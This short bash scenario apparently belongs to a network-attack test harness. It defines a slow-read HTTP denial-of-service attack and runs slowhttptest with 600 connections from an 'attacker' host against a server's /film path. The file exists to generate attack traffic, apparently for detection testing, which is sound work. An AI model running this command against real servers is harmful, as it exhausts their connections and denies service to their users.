# shellcheck shell=bash
# about: 600 downloads of a few bytes at a time (slowhttptest -X)
# type: attack
# kind: slow_http
# target: server
# source: attacker
# tools: slowhttptest
# within_ms: 15000
# also: connection_exhaustion
play() {
	on attacker timeout 25 slowhttptest -X -c 600 -r 100 -w 32 -y 64 -n 5 -z 32 -k 3 -l 20 -p 3 -u "http://$SERVER_IP/film"
}
